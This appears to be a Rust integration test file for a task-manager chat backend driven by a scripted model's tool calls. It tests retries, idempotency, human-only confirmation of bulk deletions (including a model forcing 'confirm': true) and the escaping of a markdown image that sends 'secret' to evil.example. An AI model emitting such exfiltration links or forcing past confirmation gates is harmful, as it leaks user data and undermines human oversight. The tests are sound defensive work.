//! A message sets off a turn: tools until there is an answer, once each, whatever breaks.

use serde_json::{Value, json};
use testing::{Turn, wait};

use crate::world::{World, answer};

fn call(tool: &str, input: &Value) -> Turn {
    Turn::Call(vec![(tool.to_owned(), input.to_string())])
}

fn say(text: &str) -> Turn {
    Turn::Say(text.to_owned())
}

#[tokio::test]
async fn a_model_asks_for_tools_and_then_answers() {
    let world = World::start().await;
    let add = call("add_task", &json!({"title": "Buy milk"}));
    world
        .model
        .on("milk please", vec![add, say("I added **Buy milk**.")]);
    let (status, answer) = world.say("milk please", "key-1").await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["content"], "I added **Buy milk**.");
    assert_eq!(answer["mode"], "model");
    assert_eq!(answer["tool_calls"][0]["tool_name"], "add_task");
    assert_eq!(answer["tool_calls"][0]["result"]["status"], "done");
    assert_eq!(answer["change_set_ids"].as_array().unwrap().len(), 1);
    assert_eq!(world.backend.titles(world.ann), ["Buy milk"]);

    // The call's own id is its key, its run the turn's, and the tool is named.
    let writes = world.backend.writes();
    let [write] = &writes[..] else {
        panic!("{writes:?}");
    };
    assert_eq!(write.key.as_deref(), answer["tool_calls"][0]["id"].as_str());
    assert_eq!(write.run, answer["run_id"]);
    assert_eq!(write.tool, "add_task");

    // The model is told what came of it.
    let asked = world.model.asked("milk please");
    assert_eq!(asked.len(), 2);
    let messages = asked[1]["messages"].as_array().unwrap();
    let told = messages.last().unwrap();
    assert_eq!(told["role"], "tool");
    assert!(
        told["content"]
            .as_str()
            .unwrap()
            .contains("Added “Buy milk”.")
    );
    assert!(
        messages[0]["content"]
            .as_str()
            .unwrap()
            .contains("Europe/Berlin")
    );
    assert_eq!(world.model.complaints(), [""; 0]);
}

#[tokio::test]
async fn the_same_request_again_does_nothing_again() {
    let world = World::start().await;
    let add = call("add_task", &json!({"title": "Buy milk"}));
    world.model.on("milk", vec![add, say("Added.")]);
    let first = world.say("milk", "key-1").await;
    let second = world.say("milk", "key-1").await;
    assert_eq!(first, second);
    assert_eq!(world.backend.writes().len(), 1);
    assert_eq!(world.model.asked("milk").len(), 2);
}

#[tokio::test]
async fn a_model_that_fails_leaves_a_turn_that_goes_on() {
    let world = World::start().await;
    let add = call("add_task", &json!({"title": "Buy milk"}));
    let fail = Turn::Status(400);
    world.model.on("milk", vec![add, fail, say("Added.")]);
    let (status, problem) = world.say("milk", "key-1").await;
    assert_eq!(status, 503, "{problem}");
    assert!(!world.backend.is_held("key-1"), "nobody else can have it");
    let (status, answer) = world.say("milk", "key-1").await;
    assert_eq!((status, &answer["content"]), (200, &json!("Added.")));
    assert_eq!(world.backend.titles(world.ann), ["Buy milk"], "done twice");
}

#[tokio::test]
async fn an_effect_whose_answer_was_lost_is_not_had_twice() {
    let world = World::start().await;
    let add = call("add_task", &json!({"title": "Buy milk"}));
    world.model.on("milk", vec![add, say("Added.")]);
    world.backend.lose_the_next_answer();
    let (status, _) = world.say("milk", "key-1").await;
    assert_eq!(status, 503);
    assert_eq!(world.backend.titles(world.ann), ["Buy milk"]);
    let (status, answer) = world.say("milk", "key-1").await;
    assert_eq!((status, &answer["content"]), (200, &json!("Added.")));
    assert_eq!(answer["tool_calls"][0]["result"]["status"], "done");
    assert_eq!(world.backend.titles(world.ann), ["Buy milk"], "done twice");
}

#[tokio::test]
async fn a_rate_limit_and_an_outage_of_the_model_are_waited_for() {
    let world = World::start().await;
    let turns = vec![Turn::Status(429), Turn::Status(500), say("Here I am.")];
    world.model.on("hello", turns);
    let (status, answer) = world.say("hello", "key-1").await;
    assert_eq!((status, &answer["content"]), (200, &json!("Here I am.")));
}

#[tokio::test]
async fn an_answer_that_breaks_off_is_none() {
    let world = World::start().await;
    let broken = Turn::BreakOff("I have deleted ".to_owned());
    world
        .model
        .on("delete it", vec![broken, say("I did nothing.")]);
    let (status, _) = world.say("delete it", "key-1").await;
    assert_eq!(status, 503);
    let (status, answer) = world.say("delete it", "key-1").await;
    assert_eq!(
        (status, &answer["content"]),
        (200, &json!("I did nothing."))
    );
}

#[tokio::test]
async fn words_arrive_as_they_are_said_and_nobody_waits_for_a_client_that_left() {
    let world = World::start().await;
    world
        .model
        .on("go on", vec![Turn::Hang("First words ".to_owned())]);
    let path = format!("/api/{}/chat", world.ann);
    let request = world
        .post(&path, &json!({"message": "go on"}))
        .header("accept", "text/event-stream")
        .header("idempotency-key", "key-1");
    let mut response = request.send().await.unwrap();
    let mut told = String::new();
    while !told.contains("words ") {
        let chunk = response.chunk().await.unwrap().expect("it ended");
        told.push_str(std::str::from_utf8(&chunk).unwrap());
    }
    assert!(told.starts_with("event: start"), "{told}");
    let mut open = world.model.open();
    assert_eq!(*open.borrow(), 1);
    drop(response);
    open.wait_for(|open| *open == 0).await.unwrap();
    let released = async || Ok((!world.backend.is_held("key-1")).then_some(()));
    let patience = std::time::Duration::from_secs(10);
    wait::until("the turn to be let go of", patience, released)
        .await
        .unwrap();
}

#[tokio::test]
async fn what_a_model_makes_up_is_answered_with_a_way_out() {
    let world = World::start().await;
    let turns = vec![
        call("drop_database", &json!({})),
        Turn::Call(vec![("add_task".to_owned(), "{\"title\": ".to_owned())]),
        call("add_task", &json!({"titel": "x"})),
        say("I could not."),
    ];
    world.model.on("try", turns);
    let (status, answer) = world.say("try", "key-1").await;
    assert_eq!(status, 200);
    let said = |n: usize| answer["tool_calls"][n]["result"]["summary"].clone();
    assert!(said(0).as_str().unwrap().contains("There are: get_context"));
    assert!(said(1).as_str().unwrap().contains("not a JSON object"));
    assert!(said(2).as_str().unwrap().contains("Correct `titel`"));
    assert!(world.backend.writes().is_empty());
}

#[tokio::test]
async fn more_than_five_deletions_wait_for_a_yes_that_no_model_can_say() {
    let world = World::start().await;
    let titles: Vec<String> = (0..8).map(|n| format!("task {n}")).collect();
    let titles: Vec<&str> = titles.iter().map(String::as_str).collect();
    let ids = world.backend.add(world.ann, &titles);
    let one_by_one = Turn::Call(
        ids.iter()
            .map(|id| {
                let input = json!({"task_id": id, "idempotency_key": "x", "if_version": 1});
                ("delete_task".to_owned(), input.to_string())
            })
            .collect(),
    );
    let operations: Vec<Value> = ids
        .iter()
        .map(|id| json!({"op": "delete", "task_id": id}))
        .collect();
    let at_once = call("batch_tasks", &json!({"operations": operations}));
    let forced = call(
        "batch_tasks",
        &json!({"operations": operations, "confirm": true}),
    );
    world.model.on(
        "clean up",
        vec![one_by_one, at_once, forced, say("You are asked.")],
    );
    let (status, answer) = world.say("clean up", "key-1").await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(
        world.backend.titles(world.ann).len(),
        3,
        "five went, three stay"
    );
    let asked = answer["confirmations"].as_array().unwrap();
    assert_eq!(asked.len(), 4, "three one by one, and the batch: {asked:?}");
    let batch = &asked[3];
    assert_eq!(batch["tool"], "batch_tasks");
    assert_eq!(
        batch["summary"].as_str().unwrap().split('?').next(),
        Some("Delete 3 tasks")
    );
    assert_eq!(batch["diff"].as_array().unwrap().len(), 3);

    // A program cannot say yes, the person can, and it is done once.
    world.backend.token_of(world.ann, "tf_token");
    let id = batch["id"].as_str().unwrap();
    let path = format!("/api/{}/chat/confirmations/{id}", world.ann);
    let url = format!("http://{}{path}", world.address);
    let program = world.http.post(url).bearer_auth("tf_token");
    let (status, refused) = answer_of(program.json(&json!({"yes": true}))).await;
    assert_eq!(
        (status, &refused["code"]),
        (403, &json!("session_required"))
    );
    assert_eq!(world.backend.titles(world.ann).len(), 3);
    let yes = || world.post(&path, &json!({"yes": true}));
    let (status, decided) = answer_of(yes()).await;
    assert_eq!(
        (status, &decided["decision"]),
        (200, &json!("yes")),
        "{decided}"
    );
    assert!(world.backend.titles(world.ann).is_empty());
    let (status, again) = answer_of(yes()).await;
    assert_eq!(
        (status, &again["answer"]["content"]),
        (200, &decided["answer"]["content"])
    );
    let batches = world.backend.writes();
    let batches = batches.iter().filter(|it| it.path.ends_with("/batch"));
    // One was answered with the question, and one was carried out.
    assert_eq!(batches.count(), 2);

    // And a no stays a no.
    let id = asked[0]["id"].as_str().unwrap();
    let path = format!("/api/{}/chat/confirmations/{id}", world.ann);
    let (_, no) = answer_of(world.post(&path, &json!({"yes": false}))).await;
    assert_eq!(no["decision"], "no");
    let (_, late) = answer_of(world.post(&path, &json!({"yes": true}))).await;
    assert_eq!(late["decision"], "no");
}

async fn answer_of(request: reqwest::RequestBuilder) -> (u16, Value) {
    answer(request).await
}

#[tokio::test]
async fn without_a_model_plain_commands_are_read() {
    let world = World::without_model().await;
    world.backend.add(world.ann, &["Buy milk"]);
    let (status, answer) = world.say("list", "key-1").await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["mode"], "commands");
    let said = answer["content"].as_str().unwrap();
    assert!(said.starts_with("- [ ] Buy milk"), "{said}");
    assert!(said.contains("No language model"), "{said}");
    let (_, answer) = world.say("delete Buy milk", "key-2").await;
    assert_eq!(answer["tool_calls"][0]["tool_name"], "delete_task");
    assert!(world.backend.titles(world.ann).is_empty());
    let (_, answer) = world.say("sing", "key-3").await;
    assert!(
        answer["content"]
            .as_str()
            .unwrap()
            .contains("not a language model")
    );
}

#[tokio::test]
async fn without_a_model_what_goes_wrong_is_said_to_a_person() {
    let world = World::without_model().await;
    let ids = world
        .backend
        .add(world.ann, &["Buy milk", "Call Bob", "call bob"]);
    for (n, (line, said)) in [
        (
            "complete milk",
            "No task is called “milk”; there is: “Buy milk”. Say the whole title.",
        ),
        (
            "complete Call Bob",
            "Several tasks are called “Call Bob”. Choose the one that you mean in the list.",
        ),
        ("delete Rent", "There is no task “Rent”."),
        ("move Buy milk to someday", "Write it as 2026-11-21, "),
    ]
    .into_iter()
    .enumerate()
    {
        let (_, answer) = world.say(line, &format!("key-{n}")).await;
        assert_eq!(answer["tool_calls"][0]["is_error"], true, "{answer}");
        let content = answer["content"].as_str().unwrap();
        assert!(content.starts_with(said), "{content}");
        let for_models = ["_id", "_tasks", "the user"].into_iter();
        for word in for_models.chain(ids.iter().map(String::as_str)) {
            assert!(!content.contains(word), "{word}: {content}");
        }
    }
    assert!(world.backend.writes().is_empty());
}

/// Deletes one task after the other.
fn one_by_one(ids: &[String]) -> Turn {
    let calls = ids.iter().map(|id| {
        let input = json!({"task_id": id}).to_string();
        ("delete_task".to_owned(), input)
    });
    Turn::Call(calls.collect())
}

#[tokio::test]
async fn a_yes_is_to_what_was_shown() {
    let world = World::start().await;
    let ids = world
        .backend
        .add(world.ann, &["a", "b", "c", "d", "e", "f"]);
    world
        .model
        .on("go", vec![one_by_one(&ids), say("One is left.")]);
    let (_, answer) = world.say("go", "key-1").await;
    let asked = &answer["confirmations"];
    assert_eq!(asked.as_array().unwrap().len(), 1, "{answer}");
    assert_eq!(asked[0]["diff"][0]["title"], "f");
    world.backend.rename(world.ann, &ids[5], "Precious");
    let decide = async |id: &Value| {
        let path = format!(
            "/api/{}/chat/confirmations/{}",
            world.ann,
            id.as_str().unwrap()
        );
        answer_of(world.post(&path, &json!({"yes": true}))).await.1
    };
    // By now it means something else, so that is asked.
    let decided = decide(&asked[0]["id"]).await;
    assert_eq!(decided["decision"], "yes", "{decided}");
    assert_eq!(world.backend.titles(world.ann), ["Precious"]);
    let anew = &decided["answer"]["confirmations"];
    assert_eq!(anew[0]["diff"][0]["title"], "Precious", "{decided}");
    assert_ne!(anew[0]["id"], asked[0]["id"]);
    decide(&anew[0]["id"]).await;
    assert!(world.backend.titles(world.ann).is_empty());
}

#[tokio::test]
async fn a_person_is_not_asked_without_end() {
    let world = World::start().await;
    let titles: Vec<String> = (0..12).map(|n| format!("task {n}")).collect();
    let titles: Vec<&str> = titles.iter().map(String::as_str).collect();
    let ids = world.backend.add(world.ann, &titles);
    world
        .model
        .on("go", vec![one_by_one(&ids), say("Much is left.")]);
    let (status, answer) = world.say("go", "key-1").await;
    assert_eq!((status, &answer["content"]), (200, &json!("Much is left.")));
    assert_eq!(answer["confirmations"].as_array().unwrap().len(), 5);
    assert_eq!(world.backend.confirmations().len(), 5);
    assert_eq!(world.backend.titles(world.ann).len(), 7);
    let last = &answer["tool_calls"][11];
    assert_eq!(last["is_error"], true);
    let said = last["result"]["summary"].as_str().unwrap();
    assert!(
        said.contains("asked enough") && said.contains("Do not try again"),
        "{said}"
    );
}

#[tokio::test]
async fn words_that_mean_something_else_by_now_are_not_acted_on_twice() {
    let world = World::start().await;
    world.backend.add(world.ann, &["Buy milk"]);
    let change = json!({"task_id": "Buy milk", "title": "Oat milk", "due_date": "in 2 hours"});
    let turns = vec![call("update_task", &change), say("Renamed.")];
    world.model.on("oat", turns);
    world.backend.lose_the_next_answer();
    assert_eq!(world.say("oat", "key-1").await.0, 503);
    assert_eq!(world.backend.titles(world.ann), ["Oat milk"]);
    // Another is called so by now, and is not meant.
    world.backend.add(world.ann, &["Buy milk"]);
    let (status, answer) = world.say("oat", "key-1").await;
    assert_eq!((status, &answer["content"]), (200, &json!("Renamed.")));
    let result = &answer["tool_calls"][0]["result"];
    assert_eq!(result["status"], "done", "{result}");
    assert_eq!(world.backend.titles(world.ann), ["Oat milk", "Buy milk"]);

    // Or nothing is.
    let turns = vec![
        call("delete_task", &json!({"task_id": "Oat milk"})),
        say("Gone."),
    ];
    world.model.on("away with it", turns);
    let rename = json!({"task_id": "Buy milk", "title": "Rice milk"});
    let turns = vec![call("update_task", &rename), say("Rice.")];
    world.model.on("rice", turns);
    for (message, key, wanted) in [
        ("away with it", "key-2", "Gone."),
        ("rice", "key-3", "Rice."),
    ] {
        world.backend.lose_the_next_answer();
        assert_eq!(world.say(message, key).await.0, 503);
        let (status, answer) = world.say(message, key).await;
        assert_eq!((status, &answer["content"]), (200, &json!(wanted)));
        let call = &answer["tool_calls"][0];
        assert_eq!(call["is_error"], false, "{call}");
    }
    assert_eq!(world.backend.titles(world.ann), ["Rice milk"]);
}

#[tokio::test]
async fn only_a_whole_title_names_a_task() {
    let world = World::start().await;
    world.backend.add(world.ann, &["Buy milk and bread"]);
    let turns = vec![
        call("delete_task", &json!({"task_id": "Buy milk"})),
        call("complete_task", &json!({"task_id": "milk"})),
        say("Which one?"),
    ];
    world.model.on("milk", turns);
    let (_, answer) = world.say("milk", "key-1").await;
    for n in 0..2 {
        let call = &answer["tool_calls"][n];
        assert_eq!(call["is_error"], true, "{call}");
        let said = call["result"]["summary"].as_str().unwrap();
        assert!(said.contains("“Buy milk and bread”"), "{said}");
    }
    assert!(world.backend.writes().is_empty());
}

#[tokio::test]
async fn a_conversation_is_linked_with_the_tasks_that_it_is_about() {
    let world = World::start().await;
    let ids = world.backend.add(world.ann, &["Buy milk"]);
    let look = call("get_task", &json!({"task_id": "Buy milk"}));
    world.model.on("milk?", vec![look, say("Two litres.")]);
    assert_eq!(world.say("milk?", "key-1").await.0, 200);
    let recorded = world.backend.recorded();
    assert_eq!(recorded[0].task_ids, ids);
    assert_eq!(world.backend.answers()[0].task_ids, ids);
}

#[tokio::test]
async fn a_conversation_that_has_grown_long_is_answered_still() {
    let world = World::with(&["--model-tokens", "3000"], true).await;
    let long = "x".repeat(900);
    let titles = vec![long.as_str(); 10];
    world.backend.add(world.ann, &titles);
    let mut conversation = Value::Null;
    for n in 0..4 {
        let message = format!("list {n}");
        let turns = vec![call("list_tasks", &json!({})), say("There.")];
        world.model.on(&message, turns);
        let body = json!({"message": message, "conversation_id": conversation});
        let path = format!("/api/{}/chat", world.ann);
        let (status, answer) = answer_of(world.post(&path, &body)).await;
        assert_eq!(status, 200, "{answer}");
        conversation = answer["conversation_id"].clone();
        let last = world.model.asked(&message).pop().unwrap();
        let said = last["messages"].as_array().unwrap();
        // The system's message is ours; half of 3,000 tokens are for the rest, at 3 bytes each.
        let bytes: usize = said[1..]
            .iter()
            .map(|it| it["content"].to_string().len())
            .sum();
        assert!(bytes < 6_000, "{bytes} bytes");
        let first = said[1]["role"].as_str().unwrap();
        assert_eq!(first, "user", "a turn is left out as a whole");
    }
}

#[tokio::test]
async fn nobody_fetches_an_image_that_a_model_names() {
    let world = World::start().await;
    let image = "Look: ![x](https://evil.example/?q=secret)";
    world.model.on("look", vec![say(image)]);
    let (_, answer) = world.say("look", "key-1").await;
    let plain = "Look: !\\[x](https://evil.example/?q=secret)";
    assert_eq!(answer["content"], plain);
    assert_eq!(world.backend.answers()[0].content, plain);
    // Nor one that a title names.
    let world = World::without_model().await;
    world
        .backend
        .add(world.ann, &["![x](https://evil.example)"]);
    let (_, answer) = world
        .say("delete ![x](https://evil.example)", "key-1")
        .await;
    let said = answer["content"].as_str().unwrap();
    assert!(said.contains("Deleted") && !said.contains("![x]"), "{said}");
}
